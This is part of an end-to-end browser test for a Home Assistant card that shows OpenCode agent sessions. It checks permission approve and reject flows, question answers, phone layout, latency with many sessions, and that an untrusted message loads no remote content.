      at.effect ??= sent;
      // Where the time went: OpenCode's own timestamps (the fake LLM logs its requests).
      const created = await page.locator("opencode-lookout-card").evaluate(
        (card, id) => card._machines.flatMap((m) => m.sessions).find((s) => s.id === id)?.pending_permissions[0]?.created,
        approveSession,
      );
      const called = (await llmRequests(stack)).find((r) => r.time * 1000 >= sent && JSON.stringify(r.body ?? "").includes("approved-from-card"));
      const ms = (x) => Math.round(x);
      Object.assign(timings, {
        "prompt → HA sees its first effect (OpenCode starts, agent, HA client) (ms)": ms(at.effect - sent),
        "prompt → OpenCode calls the LLM (ms)": called ? ms(called.time * 1000 - sent) : null,
        "prompt → OpenCode asks (ms)": ms(Date.parse(created) - sent),
        "OpenCode asks → HA (agent, plugin link, HA client) (ms)": ms(at.ha - Date.parse(created)),
        "HA → its state_changed in the page (ms)": ms(at.page - at.ha),
        "HA → card DOM (ms)": ms(at.dom - at.ha),
        "card DOM → next frame (ms)": ms(at.frame - at.dom),
        "prompt → permission in the card (ms)": ms(at.frame - sent),
        "first effect in HA → permission in the card (ms)": ms(at.frame - at.effect),
        "HA → permission in the card (ms)": ms(at.frame - at.ha),
      });
      log(`permission shown ${ms(at.frame - sent)} ms after the prompt, ${ms(at.frame - at.effect)} ms after its first effect reached HA, ${ms(at.frame - at.ha)} ms after the request reached HA`);
      // The issue's 2 s count from the prompt itself (OpenCode's share included; the
      // warm-ups above keep its one-time costs out of this prompt).
      if (at.frame - sent > PERMISSION_DEADLINE_MS) {
        fail(`permission request took ${ms(at.frame - sent)} ms to appear (limit ${PERMISSION_DEADLINE_MS} ms): ${JSON.stringify(timings)}`);
      }
      if (at.frame - at.ha > HA_TO_CARD_MS) {
        fail(`the update took ${ms(at.frame - at.ha)} ms from HA to the card (limit ${HA_TO_CARD_MS} ms): ${JSON.stringify(timings)}`);
      }
    });
    const request = await approveRow.locator("pre").textContent();
    if (!request.includes("echo approved-from-card > approved.txt")) fail(`the row shows ${JSON.stringify(request)}, not the command`);

    await step("a user who may not steer sees the request but no buttons", async () => {
      const viewerPage = await openDashboard(browser, hass.base, viewer);
      const viewerRow = row(viewerPage, approveSession);
      await viewerRow.locator("pre").waitFor({ timeout: 30_000 });
      const buttons = await viewerPage.locator("opencode-lookout-card .request button, opencode-lookout-card .request input").count();
      if (buttons !== 0) fail(`a viewer sees ${buttons} steering controls`);
      await viewerPage.locator("opencode-lookout-card .readonly").first().waitFor();
      await viewerPage.screenshot({ path: join(OUT, "viewer-light-1280.png"), fullPage: true });
      await viewerPage.context().close();
    });

    const shots = await step("screenshots (light/dark, 1280/390 px)", () => screenshots(page, "card-permission"));

    await step("Approve runs the command; the row returns to idle", async () => {
      await approveRow.getByRole("button", { name: "Approve" }).click();
      await until("approved.txt", () => existsSync(join(stack.project, "approved.txt")), 30_000);
      await row(page, approveSession).and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
    });

    // 2. Reject with a reason: the reason reaches the model.
    const reason = "Not now: use the staging database instead";
    await step("Reject with a reason reaches the model", async () => {
      const session = await newSession(stack, "Clean up the build folder");
      await prompt(stack, session, "RUN: touch rejected.txt");
      const r = row(page, session);
      await r.getByRole("button", { name: "Reject" }).waitFor({ timeout: 30_000 });
      await r.getByRole("textbox", { name: /Reason/ }).fill(reason);
      await r.getByRole("button", { name: "Reject" }).click();
      await until("the reason in a request to the model", async () => JSON.stringify(await llmRequests(stack)).includes(reason));
      await r.and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
      if (existsSync(join(stack.project, "rejected.txt"))) fail("the rejected command ran");
    });

    // 3. A question answered by tapping an option.
    await step("a question is answered by tapping an option", async () => {
      const session = await newSession(stack, "Pick a theme colour");
      await prompt(stack, session, "ASK_QUESTION");
      const r = row(page, session);
      await r.getByRole("button", { name: "Green" }).waitFor({ timeout: 30_000 });
      await screenshots(page, "card-question");
      await r.getByRole("button", { name: "Green" }).click();
      await until("the answer in a tool result sent to the model", async () =>
        (await llmRequests(stack)).some((req) =>
          (req.body?.messages ?? []).some((m) => m.role === "tool" && JSON.stringify(m.content).includes("Green")),
        ),
      );
      await r.and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
    });

    // 4. A phone: a command wraps between words, a compound command shows once, the
    // reason's placeholder fits, and the row just answered stays under the finger.
    await step(`a phone (${PHONE.width} px): commands, the reason field, the answered row`, async () => {
      await page.setViewportSize(PHONE);
      // Twelve flags, the command under the agent's 200 characters for a pattern.
      const flags =
        "--archive --delete-after --force --human-readable --exclude=.git --partial-dir=.part " +
        "--checksum --no-owner --no-group --itemize-changes --one-file-system --max-size=9M";
      const [deploy, tag] = await Promise.all([newSession(stack, "Deploy the site"), newSession(stack, "Tag the release")]);
      await prompt(stack, deploy, `RUN: echo rsync ${flags} build/ www/`);
      await row(page, deploy).getByRole("button", { name: "Approve" }).waitFor({ timeout: 30_000 });
      await prompt(stack, tag, "RUN: echo tagging-the-release && echo pushing-the-tag");
      await row(page, tag).getByRole("button", { name: "Approve" }).waitFor({ timeout: 30_000 });
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
      await page.locator("opencode-lookout-card").screenshot({ path: join(OUT, `card-phone-${PHONE.width}.png`) });

      const drawn = await row(page, deploy).locator(".request pre").first().evaluate(flagLines);
      const broken = drawn.flags.filter((f) => f.lines !== 0);
      expectThat(drawn.flags.length >= 12 && broken.length === 0, `at ${PHONE.width} px flags of the command are broken across lines: ${JSON.stringify(broken)} (${drawn.flags.length} flags)`);
      expectThat(drawn.overflow <= 0, `at ${PHONE.width} px the command overflows its box by ${drawn.overflow} px`);

      const permission = await page.locator("opencode-lookout-card").evaluate(
        (card, id) => card._machines.flatMap((m) => m.sessions).find((s) => s.id === id)?.pending_permissions[0],
        tag,
      );
      timings["compound command: the permission the card got"] = permission;
      const shown = await row(page, tag).locator(".request").first().innerText();
      const times = shown.split("pushing-the-tag").length - 1;
      expectThat(times === 1, `the compound command is shown ${times} times: ${JSON.stringify(shown)}`);

      const reason = await row(page, deploy).getByRole("textbox", { name: /Reason/ }).evaluate(placeholderRoom);
      expectThat(reason.need <= reason.room && reason.scrollWidth <= reason.clientWidth, `at ${PHONE.width} px the reason's placeholder is cut: ${JSON.stringify(reason)}`);

      // The older request is on top; once answered it would sort below the other.
      const card = page.locator("opencode-lookout-card");
      const before = await card.evaluate(
        (el, id) => Math.round(el.shadowRoot.querySelector(`li.row[data-session="${id}"]`).getBoundingClientRect().top),
        deploy,
      );
      await row(page, deploy).getByRole("button", { name: "Approve" }).click();
      const tops = await card.evaluate(rowTops, [deploy, HOLD_CHECK_MS]);
      const moved = tops.filter((t) => t !== before);
      expectThat(moved.length === 0, `the answered row moved under the finger within ${HOLD_CHECK_MS} ms: top ${before} px, then ${JSON.stringify([...new Set(tops)])}`);
      await row(page, deploy).and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
      await row(page, tag).getByRole("button", { name: "Reject" }).click();
      await row(page, tag).and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
      await page.setViewportSize({ width: 1280, height: 900 });
    });

    // 5. Opening a row loads nothing from anywhere: a message full of images and links
    // pointing at a listener on loopback, and the listener hears nothing.
    await step("opening a row loads no remote content and runs no script", async () => {
      const wire = await tripwire();
      try {
        const session = await newSession(stack, "Summarise the release");
        await prompt(stack, session, hostileText(wire.url));
        const r = row(page, session);
        await until("the hostile prompt at the model", async () => JSON.stringify(await llmRequests(stack)).includes("HOSTILE-MESSAGE"));
        await r.and(page.locator('[data-state="idle"]')).waitFor({ timeout: 30_000 });
        await r.getByRole("button", { name: /Show details/ }).click();
        await r.locator(".details .message").filter({ hasText: "HOSTILE-MESSAGE" }).first().waitFor({ timeout: 15_000 });
        // An element that loads starts as soon as it exists: leave any request time to land.
        await page.evaluate(() => new Promise((done) => setTimeout(() => requestAnimationFrame(done), 300)));
        const found = await r.locator(".details").evaluate(scanForRemoteContent);
        await page.screenshot({ path: join(OUT, "card-hostile-message-light-1280.png"), fullPage: true });
        timings["hostile message: what the listener got"] = wire.seen;
        expectThat(
          wire.seen.connections === 0 && wire.seen.requests.length === 0,
          `opening a row made the browser fetch from the listener: ${wire.seen.connections} connection(s), ${JSON.stringify(wire.seen.requests)}`,
        );
        expectThat(found.loaders.length === 0 && found.styles.length === 0, `the message drew elements that load: ${JSON.stringify([...found.loaders, ...found.styles])}`);
        expectThat(found.handlers.length === 0, `the message drew event handlers: ${JSON.stringify(found.handlers)}`);
        const badLinks = found.links.filter(
          (a) => !/^(https?|mailto):/i.test(a.href ?? "") || a.target !== "_blank" || !/\bnoopener\b/.test(a.rel ?? "") || !/\bnoreferrer\b/.test(a.rel ?? ""),
        );
        expectThat(badLinks.length === 0, `links in the message that are not http(s) or open with an opener or referrer: ${JSON.stringify(badLinks)}`);
        expectThat(found.text.includes("HOSTILE-MESSAGE"), "the message's text is not drawn");
        // Links are drawn: the page must not look up their hosts on its own either.
        const prefetch = await page.evaluate(() => document.head.querySelector('meta[http-equiv="x-dns-prefetch-control"]')?.content);
        expectThat(prefetch === "off", `DNS prefetching of links is not turned off (x-dns-prefetch-control: ${prefetch})`);
        await r.getByRole("button", { name: /Hide details/ }).click();
      } finally {
        await wire.close();
      }
    });

    // 6. Expanding a row shows the last messages.
    await step("expanding a row shows its last messages", async () => {
      await approveRow.getByRole("button", { name: /Show details/ }).click();
      await approveRow.locator(".details .message").first().waitFor({ timeout: 15_000 });
      await page.screenshot({ path: join(OUT, "card-expanded-light-1280.png"), fullPage: true });
    });

    await step("the card is in the card picker and has a visual editor", async () => {
      const info = await page.evaluate(async () => {
        const Card = customElements.get("opencode-lookout-card");
        const editor = Card.getConfigElement();
        editor.hass = document.querySelector("home-assistant").hass;
        editor.setConfig({ type: "custom:opencode-lookout-card", ...Card.getStubConfig() });
        document.body.appendChild(editor);
        await customElements.whenDefined("ha-form").catch(() => undefined);
        await editor.updateComplete;
        const form = editor.shadowRoot.querySelector("ha-form");
        editor.remove();
        return {
          picker: (window.customCards ?? []).some((c) => c.type === "opencode-lookout-card"),
          editor: editor.tagName.toLowerCase(),
          form: Boolean(form),
        };
      });
      if (!info.picker || info.editor !== "opencode-lookout-card-editor" || !info.form) fail(`picker/editor: ${JSON.stringify(info)}`);
    });

    // 7. Fifty sessions: all rows drawn; requests in ten of them still reach the card
    // within 300 ms of reaching HA each, and every render of the card stays short.
    await step(`${MANY_SESSIONS} sessions stay smooth`, async () => {
      const card = page.locator("opencode-lookout-card");
      const have = await card.evaluate((el) => el._machines.flatMap((m) => m.sessions).length);
      const added = [];
      while (have + added.length < MANY_SESSIONS) {
        const batch = Math.min(10, MANY_SESSIONS - have - added.length);
        added.push(...(await Promise.all(Array.from({ length: batch }, (_, i) => newSession(stack, `Session ${have + added.length + i + 1}`)))));
      }
      const t = Date.now();
      await until(`${MANY_SESSIONS} rows in the card`, async () => (await card.locator("li.row").count()) >= MANY_SESSIONS, 180_000, 250);
      timings[`${MANY_SESSIONS} sessions: last created → all rows shown (ms)`] = Date.now() - t;
      const chosen = added.slice(-MANY_UPDATES);
      await watchRows(page, "many", APPROVABLE);
      await watchStates(page, "many", await stateSensors(page, chosen));
      const frames = await watchFrames(page);
      const renders = await watchRenders(page);
      // Paced, not all in one instant: ten requests in one burst queue behind each
      // other's entity writes in HA's event loop, and the frontend's handling of those
      // ~25 entities per session keeps the page busy, before any reaches the card
      // (timings.json keeps HA's own state_changed delivery for comparison).
      await Promise.all(
        chosen.map((id, i) => new Promise((r) => setTimeout(r, i * UPDATE_SPACING_MS)).then(() => prompt(stack, id, `RUN: echo many-${i}`))),
      );
      const at = await marks(page, "many", chosen, 60_000);
      const seen = await frames.stop();
      const renderMs = (await renders()).sort((a, b) => a - b);
      const latencies = chosen.map((id) => Math.round(at[id].frame - at[id].ha)).sort((a, b) => a - b);
      const perUpdate = (from, to) => chosen.map((id) => Math.round(at[id][to] - at[id][from])).sort((a, b) => a - b);
      Object.assign(timings, {
        [`${MANY_SESSIONS} sessions: HA → card per update, sorted (ms)`]: latencies,
        [`${MANY_SESSIONS} sessions: HA → its state_changed in the page (ms)`]: perUpdate("ha", "page"),
        [`${MANY_SESSIONS} sessions: HA → card DOM (ms)`]: perUpdate("ha", "dom"),
        [`${MANY_SESSIONS} sessions: longest gap between frames (ms)`]: Math.round(seen.maxGap),
        [`${MANY_SESSIONS} sessions: frames drawn`]: seen.frames,
        [`${MANY_SESSIONS} sessions: long tasks (ms)`]: seen.longTasks.map(Math.round),
        [`${MANY_SESSIONS} sessions: card renders`]: renderMs.length,
        [`${MANY_SESSIONS} sessions: card render, median and longest (ms)`]: [renderMs[renderMs.length >> 1], renderMs.at(-1)].map((x) => Math.round(x ?? 0)),
      });
      await page.screenshot({ path: join(OUT, `card-${MANY_SESSIONS}-sessions-light-1280.png`), fullPage: true });
      if (latencies.at(-1) > HA_TO_CARD_MS) fail(`with ${MANY_SESSIONS} sessions an update took ${latencies.at(-1)} ms from HA to the card (limit ${HA_TO_CARD_MS} ms): ${latencies}`);
      if (renderMs.at(-1) > MAX_RENDER_MS) fail(`with ${MANY_SESSIONS} sessions one render of the card took ${Math.round(renderMs.at(-1))} ms (limit ${MAX_RENDER_MS} ms)`);
    });

    const unknown = consoleErrors.filter((text) => text.includes("unknown_command"));
    expectThat(unknown.length === 0, `the pages logged unknown_command (a websocket command of no loaded integration): ${JSON.stringify(unknown)}`);
    if (problems.length) fail(`${problems.length} check(s) failed:\n- ${problems.join("\n- ")}`);

    timings.total = Date.now() - START;
    log(`passed in ${(timings.total / 1000).toFixed(1)} s; screenshots: ${shots.join(", ")}`);
  } catch (err) {
    // What the browser showed when it failed.
    for (const [i, p] of pages.entries()) {
      if (p.isClosed()) continue;
      await p.screenshot({ path: join(OUT, `failure-${i}.png`), fullPage: true }).catch(() => undefined);
      const where = await p
        .evaluate(async () => {
          const entries = performance.getEntriesByType("resource").filter((e) => e.name.includes("lookout")).map((e) => [e.name, e.duration, e.responseStatus]);
          let fetched;
          try {
            const r = await fetch("/opencode_lookout/opencode-lookout-card.js", { signal: AbortSignal.timeout(5000) });
            fetched = `${r.status} ${(await r.text()).length}`;
          } catch (e) {
            fetched = String(e);
          }
          let imported;
          try {
            await Promise.race([import("/opencode_lookout/opencode-lookout-card.js?x=1"), new Promise((_, rej) => setTimeout(() => rej(new Error("import timeout")), 5000))]);
            imported = `ok, defined now: ${Boolean(customElements.get("opencode-lookout-card"))}`;
          } catch (e) {
            imported = String(e.stack ?? e);
          }
          const ha = document.querySelector("home-assistant");
          const scripts = [...document.querySelectorAll("script")].map((e) => e.src || e.textContent.slice(0, 300)).filter((t) => t.includes("lookout") || t.includes("extra"));
          return { url: location.href, defined: Boolean(customElements.get("opencode-lookout-card")), entries, fetched, imported, scripts, connected: ha?.hass?.connected };
        })
        .catch((e) => String(e));
      log(`page ${i}: ${JSON.stringify(where)}`);
    }
    throw err;
  } finally {
    // Also when a check failed: where the time went is what to look at then.
    writeFileSync(join(OUT, "timings.json"), `${JSON.stringify(timings, null, 2)}\n`);
    await browser?.close().catch(() => undefined);
    await stopAll();
    rmSync(root, { recursive: true, force: true });
  }
}

/** Save the dashboard through the websocket (lovelace/config/save) from an admin page. */
async function openDashboardSetup(browser, base, admin) {
  const context = await browser.newContext();
  await context.addInitScript(
    (t) => localStorage.setItem("hassTokens", JSON.stringify(t)),
    {
      access_token: admin.access_token,
      refresh_token: admin.refresh_token,
      expires_in: admin.expires_in,
      token_type: "Bearer",
      hassUrl: base,
      clientId: admin.client_id,
      expires: Date.now() + admin.expires_in * 1000,
    },
  );
  const page = await context.newPage();
  await page.goto(`${base}/profile`);
  await page.waitForFunction(() => document.querySelector("home-assistant")?.hass?.connection, null, { timeout: 60_000 });
  await callWS(page, { type: "http/config/promote" }).catch((err) => log(`http/config/promote: ${err.message ?? err}`));
  await callWS(page, {
    type: "lovelace/dashboards/create",
    url_path: "opencode-lookout",
    title: "Lookout",
    mode: "storage",
    require_admin: false,
    show_in_sidebar: true,
  });
  await callWS(page, {
    type: "lovelace/config/save",
    url_path: "opencode-lookout",
    config: { title: "Lookout", views: [{ title: "Sessions", cards: [{ type: "custom:opencode-lookout-card", idle_count: MANY_SESSIONS }] }] },
  });
  return { context, page };
}

(process.argv.includes("--warm-up") ? warmUp() : main()).then(
  () => process.exit(0),
  (err) => {
    console.error(`[card-test] FAILED: ${err.stack ?? err}`);
    process.exit(1);
  },
);
